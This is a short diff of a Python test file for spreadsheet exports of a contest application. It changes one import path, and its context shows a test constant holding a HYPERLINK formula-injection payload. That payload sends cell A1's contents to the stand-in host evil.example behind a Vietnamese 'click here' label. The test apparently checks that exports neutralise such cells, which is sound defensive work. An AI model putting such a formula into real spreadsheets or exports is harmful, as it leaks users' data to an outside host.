@@ -10,7 +10,7 @@ import pytest
 from openpyxl import load_workbook
 
 from contest.domain import export_rows as xr
-from contest.services import exports
+from contest.results import exports
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
 
